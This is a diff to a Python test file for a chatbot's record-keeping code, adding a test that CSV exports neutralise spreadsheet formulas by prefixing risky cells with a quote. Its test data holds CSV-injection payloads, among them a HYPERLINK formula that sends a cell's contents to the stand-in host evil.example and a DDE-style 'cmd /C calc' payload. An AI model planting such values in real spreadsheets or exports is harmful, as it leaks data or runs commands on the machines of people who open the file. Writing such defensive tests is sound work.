@@ -1,8 +1,9 @@
 """The records in SQLite and in PostgreSQL: completed checks, unanswered questions and requests for a person,
-the migration from schema version 1, hashed sender ids, retention, forgetting one user, exports and staff's
-command line."""
+the migration from schema version 1, hashed sender ids, retention, forgetting one user, exports (no cell a
+spreadsheet would run) and staff's command line."""
 import csv
 import datetime as dt
+import io
 import json
 import subprocess
 import sys
@@ -15,7 +16,7 @@ from bot.rules.engine import assess
 from bot.rules.profile import make_profile
 from records.checks import record_check, report
 from records.cli import main as records_main
-from records.export import check_rows, handoff_rows, unanswered_rows
+from records.export import EXPORTS, check_rows, handoff_rows, unanswered_rows, write_csv
 from records.handoffs import record_handoff
 from records.identity import HASH_KEY_VARIABLE, KEY_FILE_NAME, local_key, user_hash
 from records.retention import forget, purge, retention
@@ -293,6 +294,34 @@ def test_a_bad_retention_is_refused(value):
         retention({"KLYNGEBOT_RETENTION_DAYS": value})
 
 
+# --- exports a spreadsheet opens as text ---------------------------------------------------------------------
+
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?q=\"&A1,\"klikk\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+47 22 00 00 00",
+            "-2+3", "\tTAB=1", "\rCR=1"]
+
+
+def test_every_export_makes_a_cell_that_begins_like_a_formula_text(tmp_path, records_cli):
+    url = f"sqlite:///{tmp_path / 'checks.db'}"
+    engine = connect(url)
+    for text in FORMULAS:
+        record_unanswered(engine, text, "nb", "webchat", "web-1")
+        record_handoff(engine, text, "kari@example.no", "nb", "webchat", "web-1", text, consent=True)
+    record_check(engine, assessed(PROFILES[0]), "rest", "someone")
+    files = {}
+    for kind in EXPORTS:
+        code, files[kind], _ = records_cli(["export", kind, "--csv", "-"], url)
+        assert code == 0
+        output = io.StringIO()
+        write_csv(EXPORTS[kind](engine), output)
+        assert output.getvalue() == files[kind]  # the staff page's download is written the same way
+    written = {kind: list(csv.DictReader(io.StringIO(text, newline=""))) for kind, text in files.items()}
+    neutral = ["'" + text for text in FORMULAS]
+    assert [row["text"] for row in written["unanswered"]] == neutral
+    assert [(row["name"], row["topic"]) for row in written["handoffs"]] == list(zip(neutral, neutral))
+    assert [row["email"] for row in written["handoffs"]] == ["kari@example.no"] * len(FORMULAS)  # the rest as kept
+    assert written["checks"][0]["budget_nok"] == "500000.0" and json.loads(written["checks"][0]["facts"]) == PROFILES[0]
+
+
 # --- staff's command line ---------------------------------------------------------------------------------------
 
 def run_cli(arguments, url, **variables):
@@ -354,7 +383,7 @@ def test_the_export_command_writes_one_row_per_check(tmp_path, records_cli):
     assert "innovasjonsrammen:half_are_smes" in rows[0]["failing_rules"].split()
     assert "user_hash" not in rows[0]
     code, out, _ = records_cli(["export", "unanswered", "--csv", "-"], url)
-    assert code == 0 and out == "created_at,language,channel,text\n"
+    assert code == 0 and out == "created_at,language,channel,text\r\n"
 
 
 @pytest.mark.parametrize("arguments, variables, expected", [
